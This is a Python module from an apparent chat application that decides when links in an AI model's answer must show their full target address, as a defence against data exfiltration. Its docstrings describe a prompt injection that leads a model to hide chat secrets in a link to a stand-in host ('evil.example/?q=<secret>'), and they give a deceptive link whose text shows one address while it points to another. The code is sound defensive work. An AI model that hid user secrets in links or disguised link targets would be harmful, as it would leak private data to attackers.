"""Which links of an answer must show where they go; Qt-free, so the rule is tested on its own.

A prompt injection that reached the model can ask it to smuggle what the chat holds out in a
link (``[the docs](https://evil.example/?q=<secret>)``) and to make the link look harmless. An
answer's link therefore shows its full address next to its text unless the address appeared in
the conversation before: given by the user, the system prompt or a tool result (the chat's
``web_addresses_given_to_model``) or written in one of the user's own messages. Addresses are
compared by request key, as the ``read_web_page`` tool compares them
(:func:`studio.tools.addresses.request_key`). A link whose text reads as another address than
its target always shows the target, given or not.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field

from studio.kernel.context import ChatContext
from studio.tools.addresses import find_web_addresses, request_key

__all__ = [
    "NO_ADDRESSES",
    "AddressBook",
    "KnownAddresses",
    "ShownLink",
    "link_hides_address",
    "shown_address",
]

_LOOKS_LIKE_ADDRESS = re.compile(
    r"^(?:[a-z][a-z0-9+.-]*://\S+|(?:mailto|data|file|javascript|tel):\S+"
    r"|[\w-]+(?:\.[\w-]+)+(?::\d+)?(?:[/?#]\S*)?)$",
    re.IGNORECASE,
)
"""Text a reader takes for an address: an address with a scheme, or a dotted host name."""

_DATA_SHOWN = 48
"""How much of a ``data:`` address is shown; the rest is content, not where it points."""


@dataclass(frozen=True)
class KnownAddresses:
    """The request keys of the addresses that appeared in a conversation."""

    keys: frozenset[str] = frozenset()

    @classmethod
    def of(cls, addresses: Iterable[str]) -> KnownAddresses:
        """The keys of ``addresses``; those without one (not a web address) are left out."""
        return cls(frozenset(key for key in map(request_key, addresses) if key is not None))

    def includes(self, address: str) -> bool:
        """Whether ``address`` makes the same request as one that appeared."""
        key = request_key(address)
        return key is not None and key in self.keys


NO_ADDRESSES = KnownAddresses()
"""Nothing appeared: every link shows its address."""


@dataclass
class AddressBook:
    """The addresses one conversation has shown so far, read anew each time they are asked for.

    It follows the chat's live :class:`~studio.kernel.context.ChatContext` (its addresses grow
    while tools run) and adds the addresses of the user's own messages. Each address is parsed
    once, so asking again while an answer streams costs a set's walk.
    """

    _context: ChatContext | None = None
    _texts: set[str] = field(default_factory=set)
    _keys: dict[str, str | None] = field(default_factory=dict)

    def follow(self, context: ChatContext | None) -> None:
        """Count the addresses given to the model in ``context`` (None: no chat's)."""
        self._context = context

    def add_text(self, text: str) -> None:
        """Count the addresses in a message the user wrote."""
        self._texts.update(find_web_addresses(text))

    def clear(self) -> None:
        """Forget the chat and the user's messages."""
        self._context = None
        self._texts.clear()

    def known(self) -> KnownAddresses:
        """The addresses that appeared so far."""
        addresses = set(self._texts)
        if self._context is not None:
            addresses |= self._context.web_addresses_given_to_model
        keys = (self._key(address) for address in addresses)
        return KnownAddresses(frozenset(key for key in keys if key is not None))

    def _key(self, address: str) -> str | None:
        if address not in self._keys:
            self._keys[address] = request_key(address)
        return self._keys[address]


@dataclass(frozen=True)
class ShownLink:
    """One link of a rendered answer and whether its address was written out next to it."""

    text: str
    href: str
    address_shown: bool
    beside_other_link: bool = False
    """The link touches a link to another target, so a reader cannot tell where each goes."""

    def must_show_address(self, known: KnownAddresses) -> bool:
        """Whether, with ``known`` the addresses that appeared, the address must be shown."""
        return link_hides_address(
            self.text, self.href, known, beside_other_link=self.beside_other_link
        )


def link_hides_address(
    text: str, href: str, known: KnownAddresses, *, beside_other_link: bool = False
) -> bool:
    """Whether the link reading ``text`` must also show ``href`` to be honest about its target.

    A link whose text is its own address (an autolink, a bare address) shows it already. Any
    other link hides its target when the target did not appear in the conversation, and
    always when its text looks like an address the target is not, or when it touches a link
    to another target (``[log in at https://bank.example](https://evil.example)`` is two
    links, the address inside one of its own).
    """
    text = text.strip()
    if _same_address(text, href):
        return False
    if beside_other_link or _LOOKS_LIKE_ADDRESS.match(text):
        return True
    if any(not _same_address(found, href) for found in find_web_addresses(text)):
        return True
    return not known.includes(href)


def shown_address(href: str) -> str:
    """``href`` as the reader sees it: whole, except the content of a ``data:`` address."""
    href = href.strip()
    if href[:5].lower() == "data:" and len(href) > _DATA_SHOWN:
        return f"{href[:_DATA_SHOWN]}…"
    return href


def _same_address(text: str, href: str) -> bool:
    href = href.strip()
    if text == href or (href[:7].lower() == "mailto:" and text == href[7:]):
        return True
    key = request_key(href)
    if key is None:
        return False
    spellings = (text,) if "://" in text else (f"https://{text}", f"http://{text}")
    return any(request_key(spelling) == key for spelling in spellings)
